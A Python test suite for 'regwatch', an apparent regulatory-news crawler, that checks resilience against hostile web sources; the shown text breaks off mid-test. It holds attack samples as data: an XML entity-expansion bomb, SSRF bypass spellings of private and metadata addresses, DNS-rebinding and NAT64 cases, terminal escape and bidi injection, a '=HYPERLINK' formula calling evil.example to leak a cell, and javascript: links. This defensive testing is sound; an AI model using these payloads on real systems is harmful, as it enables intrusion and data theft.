"""Nothing from the web can take regwatch down: each bad source costs itself one failed run, nothing more."""

import csv
import io
import json
import re
import resource
import signal
import sqlite3
import subprocess
import sys
import time
from datetime import UTC
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import REGWATCH
from support.config import chat, write_config
from support.news import art, article_page, feed_source, links_feed, publish
from support.servers import Page, redirect, trickling

GOOD = "监管部门要求持牌消费金融公司将综合融资成本压降至20%以内，年化利率上限进一步下调，部分高定价产品暂停发放。"
OLD = "某银行发布年度报告，全年营业收入同比增长5%，净利润保持稳定，零售业务占比提升。"


ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a0 "lol">'
               + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
               + ']><rss version="2.0"><channel><title>&a9;</title></channel></rss>').encode()

BAD = {
    "bomb": ("feed", Page(ENTITY_BOMB, ctype="application/rss+xml")),
    "huge": ("listing", Page(b"<html><body>" + b"<p>\xe5\x88\xa9\xe7\x8e\x87" * 5_000_000 + b"</body></html>")),
    "slow": ("listing", trickling(60, every=1, ctype="text/html")),
    "loop": ("feed", redirect("/bad/loop")),
    "badjson": ("json", Page(b'{"code": 0, "data": {"list": [{"title": "x", "url": ', ctype="application/json")),
    "binary": ("listing", Page(b"%PDF-1.4\n" + bytes(range(256)) * 400, ctype="text/html; charset=utf-8")),
    "htmlfeed": ("feed", Page("<html><body><h1>维护中</h1></body></html>".encode(), ctype="application/rss+xml")),
    "error500": ("feed", Page(b"<html><body>Internal Server Error</body></html>", status=500)),
    "gate412": ("listing", Page(b"<html><body></body></html>", status=412)),
    "wrongshape": ("json", Page(b'{"code": 0, "result": {"rows": []}}', ctype="application/json")),
}


def test_one_run_beside_every_kind_of_bad_source(tmp_path, site, receiver, rw):
    receiver.routes["gw"] = {"type": "webhook"}
    publish(site, {"feed": [art("old", "银行发布年度报告", OLD, 500)]})
    lines = [f'[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"\ntimeout = "5s"\nmax_size = 2000000\n',
             f'[[sources]]\nname = "good"\nkind = "feed"\nurl = "{site.url}/feed.xml"\n']
    for name, (kind, page) in BAD.items():
        site.pages[f"/bad/{name}"] = page
        extra = {"listing": 'links = "ul a"\n', "json": 'items = "data.list"\nlink = "url"\n'}.get(kind, "")
        lines.append(f'[[sources]]\nname = "{name}"\nkind = "{kind}"\nurl = "{site.url}/bad/{name}"\n{extra}')
    lines.append(f'[[channels]]\nname = "gw"\ntype = "webhook"\nurl = "{receiver.url}/gw"\n'
                 '[[subscriptions]]\nname = "caps"\ntopics = ["rate_cap"]\nchannels = ["gw"]\n[alerts]\nonce_wait = "5s"\n')
    cfg = tmp_path / "regwatch.toml"
    cfg.write_text("\n".join(lines), encoding="utf-8")
    assert rw("baseline", "-c", cfg).returncode == 0

    publish(site, {"feed": [art("old", "银行发布年度报告", OLD, 500),
                            art("new", "消费金融利率上限降至20%", GOOD, 2)]})
    r = rw("run", "--once", "-c", cfg, timeout=120)
    peak_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert r.returncode == 0, r.stderr[-2000:]
    assert "Traceback" not in r.stderr
    # (the run ends: the subprocess's own timeout above; the trickling source is cut off by crawl.timeout,
    # said so below — no wall-clock bound, which a loaded machine breaks)
    assert peak_mb < 600
    assert len(receiver.delivered("gw")) == 1      # the good source's new article still alerts
    rows = {r["source"]: r for r in map(json.loads, rw("sources", "--json", "-c", cfg).stdout.splitlines())}
    assert rows["good"]["state"] == "ok"
    for name in BAD:
        assert rows[name]["state"] != "ok", name
        assert rows[name]["last_error"] or rows[name]["state"] in ("blocked", "empty"), name
    assert "entities" in rows["bomb"]["last_error"]
    assert "HTML page" in rows["htmlfeed"]["last_error"]
    assert "not valid JSON" in rows["badjson"]["last_error"]
    assert "data.list" in rows["wrongshape"]["last_error"]
    assert rows["gate412"]["state"] == "blocked"
    assert re.search(r"time|took longer|cut", rows["slow"]["last_error"] or "", re.I), rows["slow"]


def test_secrets_never_appear_in_output_or_store(tmp_path, receiver, rw):
    receiver.routes["dt"] = {"type": "dingtalk", "secret": "SECright"}
    cfg = write_config(tmp_path, subscriptions=[], channels=[
        {"name": "risk", "type": "dingtalk", "url": f"{receiver.url}/dt?access_token=TOPSECRETTOKEN",
         "secret": "${RW_DT_SECRET}"}])
    r = rw("alerts", "test", "risk", "-c", cfg, env={"RW_DT_SECRET": "SECwrong-and-secret"})
    assert r.returncode == 2 and "broken" in r.stderr and "310000" in r.stderr
    assert "TOPSECRETTOKEN" not in r.stderr + r.stdout and "SECwrong-and-secret" not in r.stderr + r.stdout


def _stored(db) -> dict[str, str]:
    with sqlite3.connect(db) as c:
        return {u: b for u, b in c.execute("SELECT url, body FROM articles")}


def test_links_reach_only_their_origin_and_public_addresses(tmp_path, site, rw, other):
    """A page's links, redirects and sitemap children never reach another loopback port (a fake cloud
    metadata server), a name that resolves to loopback, or a file; the source's own origin still works."""
    meta = other   # "169.254.169.254": another port on loopback
    meta.pages["/latest/meta-data/iam"] = Page("监管部门要求持牌消费金融公司压降综合融资成本，METADATA-TOKEN。".encode() * 10)
    secret = tmp_path / "secret.txt"
    secret.write_text("LOCAL-SECRET-FILE " * 20, encoding="utf-8")
    port = site.url.rsplit(":", 1)[1]
    site.pages["/a/own.html"] = article_page(art("own", "本站文章：利率上限新规", GOOD))
    site.pages["/a/byname.html"] = article_page(art("byname", "经由名字访问", GOOD))
    site.pages["/a/hop.html"] = redirect(f"{meta.url}/latest/meta-data/hop")
    site.pages["/feed.xml"] = links_feed(f"{site.url}/a/own.html", f"{meta.url}/latest/meta-data/iam",
                                         f"http://localhost:{port}/a/byname.html", f"file://{secret}", f"file:{secret}",
                                         f"{site.url}/a/hop.html")
    site.pages["/sitemap-index.xml"] = Page(
        ('<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
         f"<sitemap><loc>{meta.url}/sitemap.xml</loc></sitemap></sitemapindex>").encode(), ctype="application/xml")
    site.pages["/api/news"] = Page(json.dumps({"data": {"list": [
        {"url": f"file://{secret}"}, {"url": f"{meta.url}/latest/meta-data/api"}]}}).encode(), ctype="application/json")
    site.pages["/moved"] = redirect(f"{meta.url}/list")
    meta.pages["/sitemap.xml"] = Page(
        ('<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
         f"<url><loc>{meta.url}/latest/meta-data/iam</loc></url></urlset>").encode(), ctype="application/xml")
    meta.pages["/list"] = Page(f'<ul><li><a href="{meta.url}/latest/meta-data/iam">x</a></li></ul>'.encode())

    def config(block: str) -> Path:
        return write_config(tmp_path, name=f"rw-{block or 'default'}.toml",
                            store={"path": f"{tmp_path}/rw-{block or 'default'}.db"}, crawl=block, sources=[
                                feed_source(site),
                                {"name": "index", "kind": "sitemap", "url": f"{site.url}/sitemap-index.xml"},
                                {"name": "api", "kind": "json", "url": f"{site.url}/api/news", "items": "data.list",
                                 "link": "url"},
                                {"name": "moved", "kind": "listing", "url": f"{site.url}/moved", "links": "ul a"}])

    cfg = config("")     # the default: block_private_networks = true
    r = rw("baseline", "-c", cfg)
    assert r.returncode == 0, r.stderr[-2000:]
    assert meta.log == []                                    # not one request, robots.txt included
    stored = _stored(tmp_path / "rw-default.db")
    assert f"{site.url}/a/own.html" in stored                # the source's own origin
    assert not any("LOCAL-SECRET-FILE" in b or "METADATA-TOKEN" in b for b in stored.values())
    assert not site.requests("/a/byname.html")               # `localhost` is not 127.0.0.1:port's origin
    rows = {r["source"]: r for r in map(json.loads, rw("sources", "--json", "-c", cfg).stdout.splitlines())}
    assert "loopback address" in rows["feed"]["last_error"] and "refused" in rows["feed"]["last_error"]
    assert rows["feed"]["errors"] == 3                       # the other port, the name, the redirect
    for name in ("index", "api", "moved"):
        assert "refused" in (rows[name]["last_error"] or ""), rows

    cfg = config("block_private_networks = false")           # an intranet user's choice
    assert rw("baseline", "-c", cfg).returncode == 0
    assert meta.requests("/latest/meta-data/iam") and site.requests("/a/byname.html")
    stored = _stored(tmp_path / "rw-block_private_networks = false.db")
    assert not any("LOCAL-SECRET-FILE" in b for b in stored.values())   # never a file


def _baseline_behind(proxy, origin: str, tmp_path, rw) -> tuple[Path, list[str]]:
    """`regwatch baseline` of the feed at `origin` through `proxy` (http_proxy, robots.txt not asked for): the
    config, and the URLs the proxy was asked for."""
    cfg = write_config(tmp_path, name="rw.toml", crawl={"obey_robots": False},
                       sources=[{"name": "feed", "kind": "feed", "url": f"{origin}/feed.xml"}])
    env = {"http_proxy": proxy.url, "HTTP_PROXY": proxy.url, "no_proxy": "", "NO_PROXY": ""}
    r = rw("baseline", "-c", cfg, env=env)
    assert r.returncode == 0, r.stderr[-2000:]
    return cfg, [x["path"] for x in proxy.log]


def test_behind_a_proxy_links_to_private_ip_literals_are_refused_in_every_spelling(tmp_path, rw, site):
    """Behind `http_proxy` the proxy connects, so regwatch checks the host itself: an IP literal in any spelling a
    resolver accepts, and `localhost`, never reach the proxy; a name does (the proxy's to resolve)."""
    proxy = site          # a forward proxy: it is asked for absolute URLs, and logs each
    origin = "http://127.0.0.1:1"                   # the source's origin, through the proxy
    private = ["127.0.0.1:2", "[::ffff:127.0.0.1]:2", "2130706433:2", "0x7f000001:2", "0177.0.0.1:2", "127.1:2",
               "0:2", "10.0.0.1", "169.254.169.254", "localhost:2", "app.localhost"]
    proxy.pages[f"{origin}/feed.xml"] = links_feed(*(f"http://{h}/latest/meta-data" for h in private),
                                                   "http://news.example.com/a/1.html")
    cfg, asked = _baseline_behind(proxy, origin, tmp_path, rw)
    assert f"{origin}/feed.xml" in asked and "http://news.example.com/a/1.html" in asked, asked
    assert not any("meta-data" in a for a in asked), asked
    row = json.loads(rw("sources", "--json", "-c", cfg).stdout.splitlines()[0])
    assert row["errors"] == len(private) and "refused" in row["last_error"], row


def test_hosts_that_parsers_read_differently_are_refused_in_one_line_and_never_reach_a_proxy(tmp_path, rw, site):
    """A `%` in a host (a proxy that percent-decodes hosts reads `127%2e0%2e0%2e1` as 127.0.0.1) and an IPv4 address
    with a part in hex or with a leading zero (`010.0.0.1`: 8.0.0.1 to inet_aton, 10.0.0.1 to others) are refused
    before anything is sent, each in one line naming the host, whether a proxy or regwatch connects."""
    proxy = site
    origin = "http://127.0.0.1:1"
    odd = {"127%2e0%2e0%2e1:2": "is not a valid host name (a '%' in it)",
           "localhost%2e:2": "is not a valid host name (a '%' in it)",
           "[fe80::1%25eth0]:2": "is not a valid host name (a '%' in it)",
           "010.0.0.1": "is an ambiguous IP address", "0x7f.1:2": "is an ambiguous IP address",
           "1.2.3.010": "is an ambiguous IP address", "0177.0.0.1:2": "is an ambiguous IP address",
           # one reading removed one trailing dot, the other all of them: 8.0.0.1 to the first, 10.0.0.1 to others
           "010.0.0.1..": "is not a valid host name (more than one trailing dot)",
           "localhost..:2": "is not a valid host name (more than one trailing dot)"}
    proxy.pages[f"{origin}/feed.xml"] = links_feed(*(f"http://{h}/odd" for h in odd), "http://news.example.com/a/1.html")
    cfg, asked = _baseline_behind(proxy, origin, tmp_path, rw)
    assert "http://news.example.com/a/1.html" in asked and not any("odd" in a for a in asked), asked
    with sqlite3.connect(tmp_path / "rw.db") as c:
        message = c.execute("SELECT message FROM source_runs WHERE source = 'feed'").fetchone()[0]
    for host, why in odd.items():
        name = urlsplit(f"http://{host}/").hostname
        assert f"http://{host}/odd: refused, its host {name!r} {why}" in message, message

    from regwatch.crawler.middlewares import link_refusal  # without a proxy: the same refusal, the same line

    for host, why in odd.items():
        said = link_refusal(f"http://{host}/x", "feed", None) or ""
        assert said.startswith(f"refused, its host {urlsplit(f'http://{host}/').hostname!r} {why}"), said


def test_no_listener_and_timeouts_well_under_scrapys_default():
    from regwatch.crawler.settings import crawl_settings
    from regwatch.service.config import CrawlConfig

    s = crawl_settings(CrawlConfig())
    assert s["REMOTE_CONTROL_ENABLED"] is False and s["TELNETCONSOLE_ENABLED"] is False
    assert s["DOWNLOAD_TIMEOUT"] <= 30 and s["DOWNLOAD_MAXSIZE"] == 10 * 1024 * 1024 and s["REDIRECT_MAX_TIMES"] <= 5
    assert s["ROBOTSTXT_OBEY"] is True


def test_which_addresses_are_refused():
    from regwatch.crawler.netguard import refusal

    for ip in ("127.0.0.1", "127.5.5.5", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1",
               "100.100.100.200", "0.0.0.0", "::1", "fd00::1", "fe80::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
               "224.0.0.1", "not-an-ip"):
        assert refusal(ip), ip
    for ip in ("93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "::ffff:93.184.216.34"):
        assert refusal(ip) is None, ip


def test_an_ipv6_address_carrying_a_private_ipv4_one_is_refused():
    """On an IPv6-only network DNS64 answers `64:ff9b::a00:1` for a name of 10.0.0.1 and the NAT64 gateway connects
    there: an address carrying an IPv4 one (NAT64, IPv4-compatible or -translated, 6to4) is that address's."""
    from twisted.internet.address import IPv6Address

    from regwatch.crawler import netguard

    for ip in ("64:ff9b::7f00:1", "64:ff9b::10.0.0.1", "64:ff9b::169.254.169.254", "64:ff9b:1::a9fe:a9fe",
               "::127.0.0.1", "::ffff:0:7f00:1", "2002:7f00:1::1", "2002:a9fe:a9fe::1"):
        assert netguard.refusal(ip), ip
    assert "127.0.0.1, a loopback address" in netguard.refusal("64:ff9b::7f00:1")
    assert netguard.refusal("64:ff9b::93.184.216.34") is None         # DNS64's answer for a public site

    class Dns64:
        def resolveHostName(self, receiver, host, port=0, types=None, semantics="TCP"):
            receiver.resolutionBegan(None)
            receiver.addressResolved(IPv6Address("TCP", "64:ff9b::a9fe:a9fe", port))
            receiver.resolutionComplete()

    class Endpoint:
        def __init__(self):
            self.addresses = []

        def resolutionBegan(self, r):
            pass

        def addressResolved(self, a):
            self.addresses.append(a.host)

        def resolutionComplete(self):
            pass

    token = netguard._DECISION.set(netguard.PUBLIC)
    try:
        endpoint = Endpoint()
        netguard.GuardedNameResolver(Dns64()).resolveHostName(endpoint, "metadata.example", 80)
    finally:
        netguard._DECISION.reset(token)
    assert endpoint.addresses == []
    assert "169.254.169.254" in netguard._REFUSED[("metadata.example", 80)]


def test_the_check_uses_the_answer_the_connection_uses():
    """DNS rebinding: a name that answers a public address once and 127.0.0.1 next. Each connection is
    checked on its own resolution, so the loopback answer never reaches a connection."""
    from twisted.internet.address import IPv4Address

    from regwatch.crawler import netguard

    answers = iter(["93.184.216.34", "127.0.0.1"])

    class Rebinding:   # a DNS server cannot run offline here: its answers, as the reactor's resolver gives them
        def resolveHostName(self, receiver, host, port=0, types=None, semantics="TCP"):
            receiver.resolutionBegan(None)
            receiver.addressResolved(IPv4Address("TCP", next(answers), port))
            receiver.resolutionComplete()

    class Endpoint:    # what twisted's HostnameEndpoint collects before connecting
        def __init__(self):
            self.addresses, self.done = [], False

        def resolutionBegan(self, r):
            pass

        def addressResolved(self, a):
            self.addresses.append(a.host)

        def resolutionComplete(self):
            self.done = True

    resolver = netguard.GuardedNameResolver(Rebinding())
    token = netguard._DECISION.set(netguard.PUBLIC)
    try:
        first, second = Endpoint(), Endpoint()
        resolver.resolveHostName(first, "rebind.example", 443)
        resolver.resolveHostName(second, "rebind.example", 443)
    finally:
        netguard._DECISION.reset(token)
    assert first.addresses == ["93.184.216.34"]
    assert second.done and second.addresses == []          # nothing to connect to
    assert "loopback" in netguard._REFUSED[("rebind.example", 443)]


def test_a_secret_in_a_source_url_is_never_shown_or_stored(tmp_path, site, receiver, rw):
    cfg = write_config(tmp_path, sources=[{"name": "api", "kind": "json", "url": f"{site.url}/v1/${{RW_API_KEY}}/news?page=1",
                                           "items": "data", "link": "url"}],
                       channels=[chat(receiver, "gw")], subscriptions=[],
                       alerts={"failing_after": 1, "health_channels": ["gw"], "once_wait": "5s"})
    env = {"RW_API_KEY": "Zq8PRIVATEapikey"}
    r = rw("run", "--once", "-c", cfg, env=env)             # the API answers 404: an error naming its URL
    assert r.returncode == 0, r.stderr[-2000:]
    shown = [r.stdout + r.stderr]
    shown.append(rw("sources", "-c", cfg, env=env).stdout)
    shown.append(rw("sources", "--json", "-c", cfg, env=env).stdout)
    assert rw("report", "--out", tmp_path / "r.html", "-c", cfg, env=env).returncode == 0
    shown.append((tmp_path / "r.html").read_text(encoding="utf-8"))
    with sqlite3.connect(tmp_path / "rw.db") as c:
        shown += [m for (m,) in c.execute("SELECT message FROM source_runs")]
        shown += [m for (m,) in c.execute("SELECT last_error FROM source_state")]
        shown += [p for (p,) in c.execute("SELECT payload FROM alerts")]
    shown += [json.dumps(m["body"], ensure_ascii=False) for m in receiver.messages]
    assert any("/v1/***/news" in s for s in shown)               # the error is there, its secret is not
    assert len(receiver.messages) == 1                           # the health alert went out
    assert not any("Zq8PRIVATEapikey" in s for s in shown)


ESC_TITLE = "\x1b]0;owned\x07\x1b[2J\x1b[31m利率上限通知\u202e \x9b31m C1 \u2067@all 点击\u2069 \u061c"
OTHER = "<p>最高人民法院明确，民间借贷利率的司法保护上限为合同成立时一年期贷款市场报价利率的四倍，超过部分的利息不予支持。</p>"
LIVE = ("\x1b", "\x07", "\x9b", "\u202e", "\u2067", "\u2069", "\u061c")      # none may reach output as itself


def test_untrusted_text_in_the_terminal_a_spreadsheet_and_the_report(tmp_path, site, receiver, rw):
    receiver.routes["gw"] = {"type": "webhook"}

    def api(items):
        site.pages["/api/news"] = Page(json.dumps({"data": items}, ensure_ascii=False).encode(), ctype="application/json")

    body = f"<p>{GOOD}</p>"
    api([{"url": f"{site.url}/a/0", "title": "旧闻", "body": "<p>银行发布年度报告，全年营业收入同比增长。</p>"}])
    cfg = write_config(tmp_path, sources=[{"name": "api", "kind": "json", "url": f"{site.url}/api/news", "items": "data",
                                           "link": "url", "title": "title", "body": "body"}],
                       channels=[chat(receiver, "gw")], alerts={"once_wait": "5s"},
                       subscriptions=[{"name": "caps", "topics": ["rate_cap"], "channels": ["gw"]}])
    assert rw("baseline", "-c", cfg).returncode == 0
    api([{"url": f"{site.url}/a/1", "title": ESC_TITLE, "body": body},
         {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": OTHER}])
    assert rw("run", "--once", "-c", cfg).returncode == 0
    events = [json.dumps(m["body"], ensure_ascii=False) for m in receiver.messages]   # the webhook's data too
    assert len(events) == 2 and not any(c in e for e in events for c in LIVE)     # two stories, either first
    assert any("利率上限通知" in e for e in events)

    for args in (["search", "利率"], ["alerts"], ["sources"], ["search", "利率", "--json"], ["export"],
                 ["export", "--format", "csv"], ["alerts", "--json"]):
        out = rw(*args, "-c", cfg)
        assert out.returncode == 0, (args, out.stderr)
        assert not any(c in out.stdout + out.stderr for c in LIVE), args
    # C0 controls (ESC, BEL) are dropped when the text is read, as an HTML page's are; the rest is kept and
    # shown escaped
    shown = rw("search", "利率", "-c", cfg).stdout
    assert "]0;owned[2J[31m利率上限通知\\u202e \\x9b31m" in shown and "\\x1b" not in shown
    exported = [json.loads(line) for line in rw("export", "-c", cfg).stdout.splitlines()]
    assert any(r["title"] == re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", ESC_TITLE) for r in exported)   # escaped

    rows = list(csv.DictReader(io.StringIO(rw("export", "--format", "csv", "-c", cfg).stdout)))
    titles = {r["title"] for r in rows}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"利率上限\")" in titles
    assert "]0;owned[2J[31m利率上限通知 31m C1 @all 点击 " in titles     # the escapes' bytes dropped
    assert not any(t.startswith(("=", "+", "-", "@")) for r in rows for t in r.values())

    report = tmp_path / "report.html"
    assert rw("report", "--out", report, "-c", cfg).returncode == 0
    assert not any(c in report.read_text(encoding="utf-8") for c in LIVE)          # no override turns a title round

    page = tmp_path / "page.html"
    page.write_bytes(f"<html><head><title>{ESC_TITLE}</title></head><body><p>{GOOD}</p></body></html>".encode())
    out = rw("extract", page)
    assert out.returncode == 0 and "\u202e" not in out.stdout and "\\u202e" in out.stdout   # a bidi override, escaped


def test_the_report_links_only_web_urls(tmp_path):
    from datetime import datetime, timedelta

    from regwatch.pipeline.store import ArticleRecord, Store
    from regwatch.service.report import render

    store = Store(tmp_path / "rw.db")
    for url in ("javascript:alert(document.domain)//", "data:text/html,<script>alert(1)</script>", "https://ok.example/a"):
        aid = store.insert_article(ArticleRecord(url=url, source="s", title=f"t {url[:4]}", body="b", lang="zh",
                                                 published_at=None))
        store.new_story(aid, "t", None)
    aid = store.insert_article(ArticleRecord(url="https://ok.example/b", source="s", title=ESC_TITLE, body="b",
                                             lang="zh", published_at=None))
    store.new_story(aid, ESC_TITLE, None)
    page = render(store, datetime.now(UTC) - timedelta(days=1))
    assert 'href="https://ok.example/a"' in page
    assert "javascript:" not in page and 'href="data:' not in page
    assert "利率上限通知" in page and not any(c in page for c in LIVE)      # a bidi override never turns a title round


def _slow_page(n: int = 50_000) -> Page:
    """An article that takes trafilatura a long time: a 2 MB table (~17 s on this machine for 50,000 rows)."""
    rows = "<tr><td>利率上限</td><td>消费金融</td></tr>" * n
    return Page(f"<html><body><table>{rows}</table><p>{GOOD}</p></body></html>".encode())


def test_the_daemon_stops_within_30s_whatever_it_is_doing(tmp_path, site):
    """SIGTERM while one source trickles its answer (a 10-minute timeout) and an extraction would run for
    minutes: the daemon is gone within 30 s."""
    site.pages["/slow"] = trickling(60, every=1, ctype="text/html")
    site.pages["/a/heavy.html"] = _slow_page(180_000)
    site.pages["/feed.xml"] = links_feed(f"{site.url}/a/heavy.html")
    cfg = write_config(tmp_path, crawl={"timeout": "10m", "extract_timeout": "10m"}, sources=[
        {"name": "slow", "kind": "listing", "url": f"{site.url}/slow", "links": "a"}, feed_source(site)])
    p = subprocess.Popen([REGWATCH, "run", "-c", str(cfg)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        for _ in range(300):
            if site.requests("/slow") and site.requests("/a/heavy.html"):
                break
            time.sleep(0.1)
        assert site.requests("/slow") and site.requests("/a/heavy.html")
        time.sleep(3)        # the heavy page is in extraction now
        p.send_signal(signal.SIGTERM)
        out, err = p.communicate(timeout=30)
    finally:
        if p.poll() is None:
            p.kill()
            p.communicate()
    assert p.returncode == 0, err[-2000:]
    assert "Traceback" not in err


def test_an_extraction_over_its_limits_is_an_error_of_its_source(tmp_path, site, rw):
    site.pages["/a/ok.html"] = article_page(art("ok", "利率上限新规", GOOD))
    site.pages["/a/slow.html"] = _slow_page(100_000)      # ~35 s of trafilatura
    site.pages["/a/huge.html"] = _slow_page(180_000)      # 9 MB: well over 256 MB of memory in extraction
    site.pages["/feed.xml"] = links_feed(f"{site.url}/a/slow.html", f"{site.url}/a/huge.html", f"{site.url}/a/ok.html")

    def run(limits: str) -> dict:
        cfg = write_config(tmp_path, crawl=limits, sources=[feed_source(site)])
        r = rw("baseline", "-c", cfg, timeout=170)
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
        return json.loads(rw("sources", "--json", "-c", cfg).stdout)

    # (5 s: an ordinary article, read with the encoder, took over 2 s on a loaded machine)
    row = run('extract_timeout = "5s"')
    assert f"{site.url}/a/ok.html" in _stored(tmp_path / "rw.db")     # the rest of the source goes on
    assert row["errors"] == 2 and "slow.html: extraction took longer than 5 s" in row["last_error"]
    site.pages["/feed.xml"] = links_feed(f"{site.url}/a/huge.html")     # (not the slow page again: 35 s of CPU)
    row = run('extract_timeout = "10m"\nextract_memory = "256MB"')
    assert "huge.html: extraction needed more memory than its limit" in row["last_error"]


def test_pages_queued_behind_slow_ones_get_their_whole_time_limit():
    """A hostile source's slow pages ahead of an innocent article in the queue: each job's time limit counts
    from when a worker starts it, so the innocent one is not timed out while it waits."""
    import asyncio

    from regwatch.crawler.run import Extractor

    page = article_page(art("ok", "利率上限新规", GOOD)).body

    async def main():
        ex = Extractor(workers=1, timeout=3)     # (the slow pages take ~17 s each; 3 s leaves a loaded machine room)
        ex.GRACE = 3.0
        try:
            await ex({"body": page, "url": "http://x/0"})          # the worker is up
            slow = [ex({"body": _slow_page(50_000).body, "url": f"http://x/s{n}"}) for n in range(3)]
            return await asyncio.gather(*slow, ex({"body": page, "url": "http://x/ok"}))
        finally:
            ex.close()

    *slow, ok = asyncio.run(main())
    assert not any(r["ok"] for r in slow) and ok["ok"], ok


def test_a_killed_extraction_worker_is_replaced():
    """The OOM killer takes a worker mid-job: that job is tried again on a new worker, and every later
    job still works (a broken pool used to fail every later article)."""
    import asyncio
    import os

    from regwatch.crawler.run import Extractor

    page = article_page(art("ok", "利率上限新规", GOOD)).body

    async def main():
        ex = Extractor(workers=1, timeout=120)
        try:
            first = await ex({"body": page, "url": "http://x/1"})
            job = asyncio.ensure_future(ex({"body": _slow_page(20_000).body, "url": "http://x/2"}))
            await asyncio.sleep(1)
            (worker,) = ex._pool._processes.values()
            os.kill(worker.pid, signal.SIGKILL)
            killed = await job
            later = [await ex({"body": page, "url": f"http://x/{n}"}) for n in range(3, 6)]
            return first, killed, later
        finally:
            ex.close()

    first, killed, later = asyncio.run(main())
    assert first["ok"] and killed["ok"] and all(r["ok"] for r in later)


def test_a_worker_killed_while_idle_is_replaced_at_the_next_job():
    """The pool breaks with no job on it (the OOM killer took an idle worker): the next job's hand-over finds it
    broken, and it is started again, not an error escaping the extractor; its count of jobs in flight stays true."""
    import asyncio
    import os
    import time

    from regwatch.crawler.run import Extractor

    page = article_page(art("ok", "利率上限新规", GOOD)).body

    async def main():
        ex = Extractor(workers=1, timeout=60)
        try:
            first = await ex({"body": page, "url": "http://x/1"})
            (worker,) = ex._pool._processes.values()
            os.kill(worker.pid, signal.SIGKILL)
            time.sleep(1)                       # the pool sees its worker gone
            second = await ex({"body": page, "url": "http://x/2"})
            return first, second, ex._in_flight
        finally:
            ex.close()

    first, second, in_flight = asyncio.run(main())
    assert first["ok"] and second["ok"], second
    assert in_flight == 0


def test_a_worker_loads_the_learned_stage_before_its_first_job_and_its_memory_limit():
    """The sentence encoder the bundled model reads with (~120 MB, seconds to load on a busy machine) is
    loaded as a worker starts: the first article gets its whole time limit, and the smallest memory limit
    (256 MB beyond the worker's own) still reads an ordinary article, topics included."""
    import asyncio

    from regwatch.crawler.run import Extractor
    from regwatch.service.config import load_config
    from regwatch.service.topics import load_classifier

    clf = load_classifier(load_config(None))
    assert clf.model is not None and clf.model.meaning
    page = article_page(art("ok", "利率上限新规", GOOD)).body

    async def main():
        # (a generous limit: a loaded machine may take seconds over an article; that the encoder is ready
        # before the first job is asked of the worker itself)
        ex = Extractor(workers=1, timeout=30, memory=256 * 1024**2, classifier=clf)
        try:
            assert await ex._run(eval, "__import__('regwatch.pipeline.meaning', fromlist=['_'])._encoder is not None")
            return [await ex({"body": page, "url": f"http://x/{n}"}) for n in range(3)]
        finally:
            ex.close()

    for r in asyncio.run(main()):
        assert r["ok"], r
        assert "rate_cap" in {t.topic for t in r["reading"].tags}


def _nested_namespaces(n: int) -> str:
    """A feed whose one item holds n elements nested, each declaring its own namespace: feedparser's cost
    grows with the square of n (200 KB held the loop 0.7 s, 400 KB 2.5 s)."""
    opened = "".join(f'<a{i}:x xmlns:a{i}="http://127.0.0.1:9/ns/{i}">' for i in range(n))
    closed = "".join(f"</a{i}:x>" for i in reversed(range(n)))
    return ('<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>x</title>'
            f"<link>http://127.0.0.1:9/a/5.html</link>{opened}{closed}</item></channel></rss>")


@pytest.mark.parametrize("kind", ["big", "nested", "nested-utf16", "nested-utf7", "dense"])
def test_a_big_feed_is_read_off_the_event_loop(kind):
    """A 10 MB feed takes feedparser seconds, and 100 KB of nested namespace declarations a good part of one:
    the loop (downloads, alerts, SIGTERM) keeps running meanwhile. A list page over `LIST_INLINE_MAX`, or a
    feed declaring more than `FEED_NAMESPACES_INLINE` namespaces, is read in a worker; any other in a thread (200 KB
    of empty elements took feedparser over a second), without starting the workers."""
    import asyncio

    from regwatch.crawler.run import Extractor
    from regwatch.defaults import FEED_NAMESPACES_INLINE, LIST_INLINE_MAX
    from regwatch.service.config import SourceConfig

    if kind == "big":
        items = "".join(f"<item><title>第{i}条 {GOOD}</title><link>http://127.0.0.1:9/a/{i}.html</link>"
                        f"<description>{GOOD * 4}</description></item>" for i in range(12_000))
        body = f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>{items}</channel></rss>'.encode()
        assert len(body) > 9_000_000
    elif kind == "nested":
        body = _nested_namespaces(2_000).encode()
        assert len(body) < LIST_INLINE_MAX and body.count(b"xmlns") > FEED_NAMESPACES_INLINE
    elif kind == "nested-utf16":    # the same declarations in UTF-16: not one `xmlns` in ASCII bytes
        body = _nested_namespaces(1_000).replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
        body = body.encode("utf-16")
        assert len(body) < LIST_INLINE_MAX and b"xmlns" not in body
    elif kind == "nested-utf7":     # UTF-7 may write any letter base64-escaped: `xml+AG4-s` is `xmlns`
        body = _nested_namespaces(2_000).replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-7"?>')
        body = body.replace("xmlns", "xml+AG4-s").encode("ascii")
        assert len(body) < LIST_INLINE_MAX and b"xmlns" not in body
    else:
        body = _nested_namespaces(0).replace("</item>", "<y/>" * 50_000 + "</item>").encode()
        assert len(body) < LIST_INLINE_MAX and b"xmlns" not in body
    source = SourceConfig(name="big", kind="feed", url="http://127.0.0.1:9/feed.xml")

    async def main():
        ex = Extractor(workers=1, timeout=120)
        ticks = 0
        try:
            parse = asyncio.ensure_future(ex.read_list(source, body, source.url, "application/rss+xml"))
            while not parse.done():
                ticks += 1
